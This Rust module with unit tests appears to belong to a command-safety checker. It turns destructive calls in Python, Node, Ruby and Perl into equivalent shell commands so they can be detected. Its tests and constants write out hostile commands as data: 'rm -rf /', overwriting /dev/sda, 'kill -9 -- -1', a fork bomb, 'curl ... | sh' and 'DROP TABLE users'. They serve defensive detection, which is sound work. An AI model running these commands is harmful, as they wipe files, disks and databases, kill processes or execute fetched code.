//! What code of other languages does by its own functions, as commands for a shell: `shutil.rmtree("x")` is `rm -rf x`.
//!
//! The lists are in `tables/code-deeds.toml`. Nothing of the language is read but calls of listed functions with an argument
//! that says where: strings, and expressions for the home and the working folder. A variable leaves it unknown, and then nothing
//! is supposed.

use super::code_texts::delimited;
use super::code_values::{listed_commands, loose_deeds, with_plain_lists};
use super::spelling::quoted;
use crate::programs::words;

/// How many calls of functions are looked at in one text.
const MAX_CALLS: usize = 32;

/// An argument isn't read further.
const MAX_ARGUMENT_BYTES: usize = 400;

/// What certainly is a fork bomb, a download that is run.
const FORK_BOMB: &str = "f() { f | f & }; f";
const FETCHED_CODE: &str = "curl http://code.invalid | sh";

/// The commands that do what code does.
pub(super) fn deeds_in(code: &str) -> Vec<String> {
    let code = with_plain_lists(&code.replace('"', "'"));
    let mut all: Vec<String> = loose_deeds(&code);
    for (name, command) in words::RUIN_CODE_DEEDS.iter().filter_map(|row| row.split_once(" = ")) {
        let (command, number) = match command.rsplit_once(' ') {
            Some((command, number)) if number.parse::<usize>().is_ok() => (command, number.parse().ok()),
            _ => (command, None),
        };
        for arguments in calls_of(name, &code) {
            let argument = arguments.get(number.map_or(0, |number: usize| number.saturating_sub(1)));
            all.extend(argument.and_then(|argument| done_to(command, argument)));
        }
    }
    for arguments in words::RUIN_CODE_OPENS.iter().flat_map(|name| calls_of(name, &code)) {
        let mode = arguments.get(1).map(|mode| mode.trim_start_matches([' ', '\'']));
        let mode =
            mode.map(|mode| mode.strip_prefix("mode='").or(mode.strip_prefix("mode = '")).unwrap_or(mode));
        let writes = |mode: &str| words::RUIN_CODE_WRITE_MODES.iter().any(|begin| mode.starts_with(begin));
        if mode.is_some_and(writes) {
            // Perl has the handle first.
            let named =
                arguments.first().and_then(|argument| place(argument)).or_else(|| place(arguments.get(2)?));
            all.extend(named.map(|place| format!("tee {place}")));
        }
        // `open F, ">/dev/sda"`
        let joined = arguments.get(1).and_then(|mode| mode.trim_start_matches([' ', '\'']).strip_prefix('>'));
        let joined = joined.map(|path| path.trim_start_matches(['>', ' ']).trim_end_matches([' ', '\'']));
        all.extend(joined.filter(|path| path.starts_with('/')).map(|path| format!("tee {}", quoted(path))));
    }
    // What code sends to a database: `execute('DROP TABLE x')`. One in memory is gone anyway.
    let strings = code.split('\'').skip(1).step_by(2).filter(|_| !code.contains(":memory:"));
    let drops = |text: &&str| {
        let text = text.trim_start().to_ascii_uppercase();
        ["DROP ", "TRUNCATE ", "DELETE FROM "].iter().any(|begin| text.starts_with(begin))
    };
    all.extend(strings.filter(drops).take(MAX_CALLS).map(|text| format!("psql -c {}", quoted(text))));
    let has = |list: &[&str]| list.iter().any(|text| code.contains(text));
    if has(words::RUIN_CODE_ENDLESS) && has(words::RUIN_CODE_FORKS) && !has(words::RUIN_CODE_ENDS) {
        all.push(FORK_BOMB.to_owned());
    }
    let has_address = ["http://", "https://", "ftp://"].iter().any(|scheme| code.contains(scheme));
    let imports = ["import 'http", "from 'http", "import('http"].iter().any(|begin| code.contains(begin));
    if has_address && has(words::RUIN_CODE_FETCHERS) && has(words::RUIN_CODE_EVALUATORS) || imports {
        all.push(FETCHED_CODE.to_owned());
    }
    all
}

/// Whether code runs what it reads from its standard input: `exec(sys.stdin.read())`.
pub(crate) fn runs_its_input(code: &str) -> bool {
    let has = |list: &[&str]| list.iter().any(|text| code.contains(text));
    has(words::RUIN_CODE_INPUTS) && has(words::RUIN_CODE_EVALUATORS)
}

/// Texts of one word that a function hands to a shell: `os.system("reboot")`. Words in a list are the words of a command:
/// `run(["rm", "-rf", "/"])`.
pub(super) fn handed_to_shells(code: &str) -> Vec<String> {
    let code = with_plain_lists(&code.replace('"', "'"));
    let mut all = listed_commands(&code);
    for arguments in words::RUIN_CODE_SHELLS.iter().flat_map(|name| calls_of(name, &code)) {
        let mut command: Vec<String> = Vec::new();
        for argument in &arguments {
            let items = argument.trim().trim_start_matches('[').trim_end_matches(']');
            let is_list = items.len() < argument.trim().len();
            let items = if is_list { split(items) } else { vec![items] };
            let known: Vec<String> = items.into_iter().map_while(place).collect();
            let is_options = known.is_empty();
            command.extend(known);
            if is_options {
                break;
            }
        }
        let command = command.join(" ");
        if !command.is_empty() && !all.contains(&command) {
            all.push(command);
        }
    }
    all
}

/// Whether a character may be in a name.
pub(super) fn is_part(c: char) -> bool {
    c.is_ascii_alphanumeric() || c == '_' || c == '$'
}

/// The arguments of each call of a function.
fn calls_of<'c>(name: &str, code: &'c str) -> Vec<Vec<&'c str>> {
    let has_owner = name == "kill";
    let found = code.match_indices(name).filter_map(|(at, _)| {
        let before = code.get(..at)?.chars().next_back();
        let behind = code.get(at + name.len()..)?;
        if before.is_some_and(|c| is_part(c) || has_owner && c == '.') {
            return None;
        }
        let mut end = behind.len().min(MAX_ARGUMENT_BYTES);
        while !behind.is_char_boundary(end) {
            end -= 1;
        }
        let behind = behind.get(..end)?;
        let inner = match behind.trim_start_matches(' ').strip_prefix('(') {
            Some(inner) => inner.get(..group_end(inner, &[')']))?,
            // Perl and Ruby need no brackets.
            None => {
                let rest = behind.strip_prefix(' ')?.trim_start();
                let begins = rest
                    .starts_with(|c: char| c == '\'' || c == '$' || c == '-' || c.is_ascii_alphanumeric());
                rest.get(..group_end(rest, &[';', '\n', '}']).max(1)).filter(|_| begins)?
            }
        };
        Some(split(inner))
    });
    found.take(MAX_CALLS).collect()
}

/// Where a text ends at one of these signs, outside quotes and brackets.
pub(super) fn group_end(text: &str, ends: &[char]) -> usize {
    let mut depth = 0_usize;
    let mut is_quoted = false;
    for (at, c) in text.char_indices() {
        match c {
            '\'' => is_quoted = !is_quoted,
            _ if is_quoted => {}
            c if depth == 0 && ends.contains(&c) => return at,
            '(' | '[' | '{' => depth += 1,
            ')' | ']' | '}' => depth = depth.saturating_sub(1),
            _ => {}
        }
    }
    text.len()
}

/// The parts of a text between commas outside quotes and brackets.
pub(super) fn split(text: &str) -> Vec<&str> {
    let mut all = Vec::new();
    let mut rest = text;
    loop {
        let end = group_end(rest, &[',']);
        all.extend(rest.get(..end));
        match rest.get(end + 1..) {
            Some(behind) => rest = behind,
            None => return all,
        }
    }
}

/// A command with what an argument names.
pub(super) fn done_to(command: &str, argument: &str) -> Option<String> {
    if command.starts_with("kill") {
        let number = argument.trim().parse::<i32>().ok()?;
        return Some(format!("{command} -- {number}"));
    }
    let place = place(argument)?;
    Some(match command.contains("{}") {
        true => command.replace("{}", &place),
        false => format!("{command} {place}"),
    })
}

/// The place that an expression names, as a word for a shell. `None`: it can't be known.
pub(super) fn place(expression: &str) -> Option<String> {
    let is_expanded = expression.contains("expand");
    let is_pattern = expression.contains("glob") || expression.contains("Dir[");
    let mut word = String::new();
    let mut is_apart = false;
    let mut rest = expression.trim();
    let mut put = |piece: &str, is_apart: &mut bool| {
        if std::mem::take(is_apart) && !word.is_empty() {
            word.push('/');
        }
        word.push_str(piece);
    };
    while let Some(c) = rest.chars().next() {
        let listed = words::RUIN_CODE_PLACES.iter().filter_map(|row| row.split_once(" = "));
        let listed =
            listed.filter_map(|(text, stands_for)| Some((rest.strip_prefix(text)?, stands_for))).next();
        if let Some((behind, stands_for)) = listed {
            match stands_for.starts_with('$') {
                true => put(&format!("\"{stands_for}\""), &mut is_apart),
                false => put(stands_for, &mut is_apart),
            }
            rest = behind;
            continue;
        }
        rest = match c {
            '\'' => {
                let (text, behind) = delimited(rest.get(1..)?, '\'')?;
                let is_whole = is_pattern || is_expanded && text.starts_with('~');
                if text.contains("${") || text.contains("#{") || text.contains('{') && !is_pattern {
                    return None;
                }
                match is_whole && !text.contains([' ', ';', '&', '|', '$', '`', '<', '>', '(']) {
                    true => put(text, &mut is_apart),
                    false => put(&quoted(text), &mut is_apart),
                }
                behind
            }
            '/' | ',' => {
                is_apart = true;
                rest.get(1..)?
            }
            '(' | ')' | '+' | '.' | ' ' | '&' | '[' | ']' | '\n' | '\t' => rest.get(1..)?,
            c if c.is_ascii_alphabetic() || c == '_' => {
                let end = rest.find(|c: char| !c.is_ascii_alphanumeric() && c != '_').unwrap_or(rest.len());
                let (name, behind) = rest.split_at(end);
                if !words::RUIN_CODE_JOINS.contains(&name) {
                    return None;
                }
                behind
            }
            _ => return None,
        };
    }
    (!word.is_empty()).then_some(word)
}

#[cfg(test)]
mod tests {
    use super::{deeds_in, handed_to_shells, runs_its_input};

    #[test]
    fn what_code_does_is_told_as_commands() {
        for (code, wanted) in [
            ("import shutil; shutil.rmtree('/')", &["rm -rf /"][..]),
            ("shutil.rmtree(os.path.expanduser('~'))", &["rm -rf ~"]),
            ("shutil.rmtree(os.path.join(os.environ['HOME'], 'build'))", &["rm -rf \"$HOME\"/build"]),
            ("shutil.rmtree(Path.home() / 'x')", &["rm -rf \"$HOME\"/x"]),
            ("shutil.rmtree(os.getcwd())", &["rm -rf \"$PWD\""]),
            ("require('fs').rmSync(\".git\", {recursive:true})", &["rm -rf .git"]),
            ("require('fs').rmSync(require('os').homedir(), {recursive: true})", &["rm -rf \"$HOME\""]),
            ("FileUtils.rm_rf 'x'; puts 1", &["rm -rf x"]),
            ("rmtree($ENV{HOME})", &["rm -rf \"$HOME\""]),
            ("open('/dev/sda','wb').write(b'0')", &["tee /dev/sda"]),
            ("open F, '>/dev/sda'; print F 0", &["tee /dev/sda"]),
            ("os.kill(-1, 9)", &["kill -9 -- -1"]),
            ("kill 9, -1", &["kill -9 -- -1"]),
            ("Process.kill(9, -1)", &["kill -9 -- -1"]),
            ("c.execute('DROP TABLE users')", &["psql -c 'DROP TABLE users'"]),
            ("connect(':memory:').execute('drop table t')", &[]),
            ("fork while fork", &["f() { f | f & }; f"]),
            ("exec(urlopen('http://x').read())", &["curl http://code.invalid | sh"]),
            ("shutil.rmtree(path)", &[]),
            ("shutil.rmtree(f'{base}/x')", &[]),
            ("shutil.rmtree(os.path.join(base, 'x'))", &[]),
            ("open('/dev/sda').read()", &[]),
            ("while True: line = f.readline()", &[]),
            ("requests.get('http://x').json()", &[]),
            ("myrmtree('/')", &[]),
        ] {
            assert_eq!(deeds_in(code), wanted, "{code}");
        }
    }

    #[test]
    fn what_code_hands_to_a_shell_is_found() {
        for (code, wanted) in [
            ("os.system('reboot')", &["reboot"][..]),
            ("subprocess.run(['rm', '-rf', '/'])", &["rm -rf /"]),
            ("exec \"rm\", \"-rf\", $ENV{HOME}", &["rm -rf \"$HOME\""]),
            ("spawn('rm', ['-rf', '.git'], {stdio: 0})", &["rm -rf .git"]),
            ("run(command)", &[]),
        ] {
            assert_eq!(handed_to_shells(code), wanted, "{code}");
        }
        assert!(runs_its_input("import sys; exec(sys.stdin.read())"));
        assert!(!runs_its_input("import sys; print(sys.stdin.read())"));
    }
}
